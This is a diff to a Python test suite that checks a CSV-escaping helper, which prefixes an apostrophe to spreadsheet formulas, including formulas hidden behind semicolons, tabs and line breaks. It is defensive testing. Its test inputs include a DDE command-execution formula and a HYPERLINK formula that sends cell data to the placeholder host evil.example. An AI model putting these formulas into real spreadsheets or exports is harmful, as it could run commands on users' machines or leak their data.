@@ -21,9 +21,6 @@ HOSTILE = [
     "@SUM(A1)",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?x="&A1,"here")',
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
     "\tan indented text",
     "  =1+1",
     "\u00a0=1+1",
@@ -42,7 +39,42 @@ HOSTILE = [
     "+84 912",
     "=",
 ]
-HARMLESS = ["", "phố Hàng Bạc", "1-2", "a=b", "'", "'a", "BB 12/BB-CA", "  hai", "(=1)", "0912"]
+# Behind a delimiter of other spreadsheets, or a line end, with what is skipped there.
+INNER = {
+    "BB;=cmd|' /C calc'!A0;": "BB;'=cmd|' /C calc'!A0;",
+    "BB\t@SUM(A1)": "BB\t'@SUM(A1)",
+    "BB\n=1": "BB\n'=1",
+    "BB\r\n=1": "BB\r\n'=1",
+    "a; \u00a0\u200b=1": "a;' \u00a0\u200b=1",
+    'a;"=1"': 'a;\'"=1"',
+    'a;" "=1': 'a;\'" "=1',
+    "a;＝1": "a;'＝1",
+    "a;-5": "a;'-5",
+    "a;'=1": "a;''=1",
+    "a;b;+1;-1": "a;b;'+1;'-1",
+    "=1;=2": "'=1;'=2",
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "\n=1+1": "'\n'=1+1",
+}
+HARMLESS = [
+    "Cửa Nam; Hàng Bông",
+    "a;",
+    ";;",
+    "a;'b'",
+    "một\nhai",
+    '{"a": "x; y"}',
+    "",
+    "phố Hàng Bạc",
+    "1-2",
+    "a=b",
+    "'",
+    "'a",
+    "BB 12/BB-CA",
+    "  hai",
+    "(=1)",
+    "0912",
+]
 NUMBERS = ["-12", "-12.5", "+3", "-1,5", "-1.234.567", "1e-5", "105.852200", "-0"]
 # Signs, what hides them, and letters, in any order.
 TEXTS = st.text(st.sampled_from("=+-@＝﹢'\t\r\n \u00a0\u200b\ufeff\u202e1.,eaĐ;\"")) | st.text()
@@ -52,6 +84,12 @@ TEXTS = st.text(st.sampled_from("=+-@＝﹢'\t\r\n \u00a0\u200b\ufeff\u202e1.,ea
 def test_what_could_run_has_an_apostrophe_before_it(text: str) -> None:
     assert safe_cell(text) == "'" + text
     assert read_cell("'" + text) == text
+
+
+@pytest.mark.parametrize(("text", "written"), INNER.items())
+def test_what_could_run_behind_another_delimiter_has_one_too(text: str, written: str) -> None:
+    assert safe_cell(text) == written
+    assert read_cell(written) == text
 
 
 @pytest.mark.parametrize("text", HARMLESS + NUMBERS)
@@ -69,6 +107,8 @@ def test_what_is_no_text_stays_what_it_is(value: object) -> None:
 @example("''=1")
 @example("'-5")
 @example("-5")
+@example("\u200b\t=1")
+@example("';'=1;''-5")
 def test_there_and_back_nothing_has_changed(text: str) -> None:
     assert read_cell(str(safe_cell(text))) == text
 
@@ -86,6 +126,21 @@ def test_a_row_of_csv_comes_back(row: list[str]) -> None:
     csv.writer(written).writerow(safe_row(row))
     read = next(csv.reader(io.StringIO(written.getvalue(), newline=""), strict=True))
     assert [read_cell(cell) for cell in read] == row
+
+
+@pytest.mark.parametrize("delimiter", [";", "\t"])
+@given(row=st.lists(TEXTS, min_size=1, max_size=4))
+@example(row=['a;"=1"', "b"])
+@example(row=["a\n=1,2"])
+@example(row=['";" "=1'])
+def test_no_cell_runs_where_a_spreadsheet_separates_otherwise(
+    delimiter: str, row: list[str]
+) -> None:
+    written = io.StringIO(newline="")
+    csv.writer(written).writerows([["1", *safe_row(row)], ["2"]])
+    read = csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=delimiter)
+    for cell in (cell for cells in read for cell in cells):
+        assert not re.match(r"[\s\u200b\ufeff\u202e\"]*[=+\-@＝﹢]", cell)
 
 
 @pytest.mark.parametrize(
